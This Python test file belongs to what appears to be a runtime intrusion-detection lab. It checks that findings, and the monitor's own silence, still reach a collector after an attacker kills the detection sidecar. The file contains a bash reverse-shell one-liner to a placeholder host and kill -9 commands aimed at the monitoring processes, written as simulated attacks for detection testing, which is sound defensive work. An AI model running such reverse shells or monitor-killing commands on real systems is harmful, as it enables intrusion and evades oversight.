"""Who attacks and at once kills every process of the sidecar is found out all the same, and the silence is told."""

import sys
from collections.abc import Callable

import pytest

from outrider_lab.settings import guarded_task
from outrider_lab.task import Task
from outrider_wire.findings import Finding

pytestmark = [pytest.mark.lab, pytest.mark.timeout(600)]
PEER = """
import socket, sys
server = socket.create_server(("198.51.100.7", int(sys.argv[1])))
print("up", flush=True)
shell, _ = server.accept()
shell.sendall(sys.argv[2].encode())
shell.settimeout(5)
try:
    while shell.recv(4096):
        pass
except OSError:
    pass
"""
TIMEOUT_S = 10.0


def run_and_kill(task: Task, number: int, pids: str) -> str:
    """A new program is run, then the sidecar is killed."""
    task.run(f"cp /bin/true /tmp/new{number}; /tmp/new{number}; kill -9 {pids}")
    return f"/tmp/new{number}"


def kill_by_what_is_new(task: Task, number: int, pids: str) -> str:
    """The new program itself kills the sidecar: it has run for a millisecond."""
    task.run(f"cp /bin/kill /tmp/new{number}; /tmp/new{number} -9 {pids}")
    return f"/tmp/new{number}"


def kill_through_reverse_shell(task: Task, number: int, pids: str) -> str:
    """The first line a reverse shell is sent kills the sidecar and ends the shell."""
    port = str(5000 + number)
    peer = task.beside_popen([sys.executable, "-S", "-c", PEER, port, f"kill -9 {pids}; exit\n"])
    with peer:
        peer.read_until(b"up")
        task.run(f"bash -c 'HOME=/nowhere bash -i >& /dev/tcp/198.51.100.7/{port} 0>&1'")
        peer.wait()
    return f":{port}"


ATTACKS = {
    "run and kill": (run_and_kill, "NewBinaryExecuted"),
    "killed by what is new": (kill_by_what_is_new, "NewBinaryExecuted"),
    "reverse shell": (kill_through_reverse_shell, "ReverseShell"),
}


def tells_of(finding: Finding, kind: str, mark: str) -> bool:
    return finding.type == f"Execution:Runtime/{kind}" and any(
        mark in str(value) for value in finding.evidence.values()
    )


def count_told(attack: str, runs: int, guarding: Callable[[Task], list[int]]) -> tuple[int, int]:
    """(runs whose finding reached the collector, runs whose silence the collector tells of)."""
    do, kind = ATTACKS[attack]
    told = silences = 0
    with Task(guarded_task()) as task:
        for number in range(runs):
            pids = guarding(task)
            before = {finding.id for finding in task.findings() if finding.type.startswith("Outrider:")}
            mark = do(task, number, " ".join(map(str, pids)))

            def is_told(findings: list[Finding], mark: str = mark) -> bool:
                return any(tells_of(finding, kind, mark) for finding in findings)

            def is_silence_told(findings: list[Finding], before: set[str] = before) -> bool:
                return any(f.type.startswith("Outrider:") and f.id not in before for f in findings)

            told += is_told(task.findings(is_told, timeout_s=TIMEOUT_S))
            silences += is_silence_told(task.findings(is_silence_told, timeout_s=TIMEOUT_S))
    return told, silences


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_followed_by_a_kill_is_told(attack: str, guarding: Callable[[Task], list[int]]):
    """The finding arrives in all but one of the runs at most, and the silence is told of in each."""
    runs = 20 if attack == "run and kill" else 8
    told, silences = count_told(attack, runs, guarding)
    assert (told >= runs - 1, silences) == (True, runs), (told, silences, runs)


@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hundred_attacks_followed_by_a_kill_are_told(attack: str, guarding: Callable[[Task], list[int]]):
    """The finding arrives in at least 95 of 100 runs, and the silence is told of in each."""
    told, silences = count_told(attack, 100, guarding)
    assert (told >= 95, silences) == (True, 100), (told, silences)
